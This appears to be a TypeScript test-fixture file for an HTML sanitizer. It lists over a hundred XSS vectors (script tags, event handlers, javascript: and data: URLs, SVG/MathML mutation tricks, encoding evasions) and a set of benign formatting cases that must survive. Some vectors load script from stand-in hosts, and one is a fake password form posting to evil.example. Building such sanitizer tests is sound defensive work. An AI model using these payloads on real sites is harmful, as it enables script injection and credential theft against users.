/**
 * Known XSS vectors (OWASP XSS filter evasion cheat sheet, html5sec.org, PortSwigger's cheat sheet, and the
 * mutation-XSS cases DOMPurify's tests carry). Every one must come out of the sanitizer with nothing executable.
 */
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\0script:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  '&#14; javascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  '\u0001javascript:alert(1)',
];

/** Every dangerous scheme in every URL-bearing attribute we know of. */
const URL_ATTRIBUTES = SCHEMES.flatMap((url) => [`<a href="${url}">link</a>`, `<img src="${url}">`]);

const OTHER_URL_ATTRIBUTES = [
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="#" xlink:href="javascript:alert(1)">x</a>',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<input type="image" src="javascript:alert(1)">',
  '<table background="javascript:alert(1)">',
  '<body background="javascript:alert(1)">',
  '<video poster="javascript:alert(1)"></video>',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="https://ok.example" ping="javascript:alert(1)">x</a>',
  '<isindex action="javascript:alert(1)" type=submit>',
];

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<script src=//xss.example/a.js></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/xss src="http://xss.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)//',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>/*</script><svg onload=alert(1)>*/</script>',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
];

const HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<p onclick=alert(1)>click</p>',
  '<a href="https://ok.example" onfocus=alert(1) autofocus>x</a>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<select onfocus=alert(1) autofocus>',
  '<keygen onfocus=alert(1) autofocus>',
  '<strong onmouseenter=alert(1)>x</strong>',
  '<blockquote onanimationstart=alert(1) style="animation-name:x">q</blockquote>',
  '<em """><img src=x onerror=alert(1)//">',
  '<a href="https://ok.example"\tonclick=alert(1)>x</a>',
  '<p/onclick=alert(1)>x</p>',
];

const SVG_AND_MATHML = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
];

const STYLES = [
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p style="behavior: url(xss.htc);">x</p>',
  '<p style="-moz-binding:url(http://xss.example/xss.xml#xss)">x</p>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "http://xss.example/xss.css";</style>',
  '<p style="x:\\65 xpression(alert(1))">x</p>',
  '<p class="x" id="y" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
];

const DOCUMENT_TRICKS = [
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
  '<meta charset="x-imap4-modified-utf7">',
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object type="text/x-scriptlet" data="http://xss.example/x.sct"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<applet code="x.class"></applet>',
  '<form action="https://evil.example/phish"><input type=password name=p><button>Log in</button></form>',
  '<portal src="https://evil.example"></portal>',
];

const BROKEN_MARKUP = [
  '<img """><script>alert(1)</script>">',
  '<a href="https://ok.example/"><img src=x onerror=alert(1)</a>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<div><p><a href="javascript:alert(1)"',
  '<a href=javascript:alert(1)>x',
  '<<img src=x onerror=alert(1)>>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<p>unterminated <b>bold <i>nested <a href="javascript:alert(1)">',
  '<ul><li><script>alert(1)</li></ul>',
  '<table><td><img src=x onerror=alert(1)></td></table>',
];

const COMMENTS_AND_CDATA = [
  '<!--<img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<comment><img src="</comment><img src=x onerror=alert(1)//">',
];

const UNICODE_AND_NULLS = [
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<img src=x on\0error=alert(1)>',
  '<a href="java\0script:alert(1)">x</a>',
  '<img src=x onerror=\u0061lert(1)>',
  '＜script＞alert(1)＜/script＞',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="javascript\u003aalert(1)">x</a>',
  '<img src="\u0000javascript:alert(1)">',
  '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
  '<a href="&Tab;javascript:alert(1)">x</a>',
  '<a href="&NewLine;javascript:alert(1)">x</a>',
];

/** The whole corpus: over a hundred vectors. */
export const XSS_VECTORS: readonly string[] = [
  ...URL_ATTRIBUTES,
  ...OTHER_URL_ATTRIBUTES,
  ...SCRIPTS,
  ...HANDLERS,
  ...SVG_AND_MATHML,
  ...STYLES,
  ...DOCUMENT_TRICKS,
  ...BROKEN_MARKUP,
  ...COMMENTS_AND_CDATA,
  ...UNICODE_AND_NULLS,
];

/** Ordinary formatting people write, and what must be left of it. */
export const BENIGN_CASES: ReadonlyArray<{ readonly input: string; readonly kept: readonly string[] }> = [
  { input: '<p>Hello, world!</p>', kept: ['<p>Hello, world!</p>'] },
  { input: 'line one<br>line two', kept: ['line one<br />line two'] },
  {
    input: '<p><em>so</em> <strong>very</strong> <b>bold</b> <i>it</i></p>',
    kept: ['<em>so</em>', '<strong>very</strong>', '<b>bold</b>', '<i>it</i>'],
  },
  {
    input: '<a href="https://example.org/a?b=c&amp;d=e">a link</a>',
    kept: ['href="https://example.org/a?b=c&amp;d=e"', 'rel="noopener noreferrer nofollow"', '>a link</a>'],
  },
  { input: '<a href="http://example.org/">plain http</a>', kept: ['href="http://example.org/"'] },
  { input: '<a href="mailto:evan@example.org">mail me</a>', kept: ['href="mailto:evan@example.org"'] },
  {
    input: '<img src="https://cdn.example/cat.jpg" alt="a cat">',
    kept: ['src="https://cdn.example/cat.jpg"', 'alt="a cat"'],
  },
  {
    input: '<pre><code>if (a &lt; b) { return; }</code></pre>',
    kept: ['<pre><code>if (a &lt; b) { return; }</code></pre>'],
  },
  { input: '<blockquote><p>quoted</p></blockquote>', kept: ['<blockquote><p>quoted</p></blockquote>'] },
  {
    input: '<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>',
    kept: ['<ul><li>one</li><li>two</li></ul>', '<ol><li>first</li></ol>'],
  },
  {
    input: '<h1>Title</h1><h2>Sub</h2><h3>Subsub</h3>',
    kept: ['<h1>Title</h1>', '<h2>Sub</h2>', '<h3>Subsub</h3>'],
  },
  { input: 'Tom &amp; Jerry say 2 &lt; 3', kept: ['Tom &amp; Jerry say 2 &lt; 3'] },
  { input: 'Unicode: héllo wörld ✓ 日本語 🎉', kept: ['Unicode: héllo wörld ✓ 日本語 🎉'] },
  {
    input: '<p>text about javascript: the language</p>',
    kept: ['<p>text about javascript: the language</p>'],
  },
  {
    input: '<code>&lt;script&gt;</code> is how you write a script tag',
    kept: ['<code>&lt;script&gt;</code>'],
  },
];
